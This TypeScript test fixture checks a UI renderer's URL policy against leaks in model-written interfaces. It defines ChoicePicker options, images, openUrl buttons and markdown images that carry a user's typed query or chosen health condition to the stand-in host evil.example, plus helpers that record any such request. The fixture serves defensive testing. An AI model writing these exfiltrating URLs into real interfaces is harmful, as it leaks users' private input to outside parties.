/**
 * What the URL-policy checks share (issue #37: probe8 holes 5 and 6, probe9 finding 1), in the
 * Lit sink's page, the React hook's page and the unit tests: a ChoicePicker whose options are
 * URLs of evil.example, builders of `openUrl` and `formatString`, the surfaces of the user-input
 * check, and, for the pages, what of evil.example they show, animation frames and a `window.open`
 * that records what it was asked.
 */
import { BASIC_CATALOG_ID_V10, basicCatalog, type A2uiMessage } from '../../src/index.js';

/** A model-written Image: a 1×1 PNG read from its URL (the React suite fails on any request beyond its server). */
export const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

/** The option the checks pick: its value is the URL a leak would request. */
export const ASTHMA = 'https://evil.example/asthma.png';

/** ChoicePicker `pick` bound to `path`, each option's value a URL of evil.example. */
export const choicePicker = (path = '/choice') => ({
  id: 'pick',
  component: 'ChoicePicker',
  label: 'Your condition',
  variant: 'mutuallyExclusive',
  options: [
    { label: 'Diabetes', value: 'https://evil.example/diabetes.png' },
    { label: 'Asthma', value: ASTHMA },
  ],
  value: { path },
});

/** An action calling `openUrl` with `url`. */
export const openUrl = (url: unknown) => ({ functionCall: { call: 'openUrl', args: { url } } });

/** A `formatString` call of `value`. */
export const formatted = (value: string) => ({ call: 'formatString', args: { value } });

const v09 = (body: Record<string, unknown>) => ({ version: 'v0.9', ...body }) as unknown as A2uiMessage;
const v10 = (body: Record<string, unknown>) => ({ version: 'v1.0', ...body }) as unknown as A2uiMessage;

/**
 * The user-input check's surfaces (probe8 holes 5 and 6): `pick` (v0.9), a ChoicePicker whose
 * choice an Image shows, a model-written Image of `ownImage`, an `http:` and an `https:` openUrl;
 * `typed` (v1.0), a TextField whose text an openUrl and a markdown image are built from.
 */
export function userInputMessages(ownImage: string): A2uiMessage[] {
  return [
    v09({ createSurface: { surfaceId: 'pick', catalogId: basicCatalog('0.9').id } }),
    v09({
      updateComponents: {
        surfaceId: 'pick',
        components: [
          { id: 'root', component: 'Column', children: ['pick', 'img', 'own', 'plain', 'docs'] },
          choicePicker(),
          { id: 'img', component: 'Image', url: { path: '/choice/0' }, description: 'img' },
          { id: 'own', component: 'Image', url: ownImage },
          { id: 'plain', component: 'Button', child: 'plainLabel', action: openUrl('http://evil.example/plain') },
          { id: 'plainLabel', component: 'Text', text: 'Plain' },
          { id: 'docs', component: 'Button', child: 'docsLabel', action: openUrl('https://docs.example/help') },
          { id: 'docsLabel', component: 'Text', text: 'Docs' },
        ],
      },
    }),
    v09({ updateDataModel: { surfaceId: 'pick', path: '/choice', value: [] } }),
    v10({ createSurface: { surfaceId: 'typed', catalogId: BASIC_CATALOG_ID_V10 } }),
    v10({
      updateComponents: {
        surfaceId: 'typed',
        components: [
          { id: 'root', component: 'Column', children: ['field', 'go', 'md'] },
          { id: 'field', component: 'TextField', label: 'Search', value: { path: '/q' } },
          { id: 'go', component: 'Button', child: 'goLabel', action: openUrl(formatted('https://evil.example/?q=${/q}')) },
          { id: 'goLabel', component: 'Text', text: 'Go' },
          { id: 'md', component: 'Text', text: formatted('Hi ![x](https://evil.example/md-${/q}.png)') },
        ],
      },
    }),
  ];
}

/** What of evil.example `roots` show or link, and what the page requested of it. */
export function evilSeen(roots: readonly ParentNode[]): string[] {
  const sources = roots.flatMap((root) => [...root.querySelectorAll('img')].map((img) => img.getAttribute('src') ?? ''));
  const links = roots.flatMap((root) => [...root.querySelectorAll('a[href]')].map((a) => a.getAttribute('href') ?? ''));
  const requested = performance.getEntriesByType('resource').map((entry) => entry.name);
  return [...sources, ...links, ...requested].filter((url) => url.includes('evil.example'));
}

/** Waits `n` animation frames. */
export const frames = async (n: number): Promise<void> => {
  for (let i = 0; i < n; i++) await new Promise(requestAnimationFrame);
};

/** Runs `check` with `window.open` recording the URLs it is asked to open (none opens), then puts it back. */
export async function recordingOpen<T>(check: (opened: string[]) => Promise<T>): Promise<T> {
  const opened: string[] = [];
  const open = window.open;
  window.open = (url?: string | URL) => {
    opened.push(String(url));
    return null;
  };
  try {
    return await check(opened);
  } finally {
    window.open = open;
  }
}
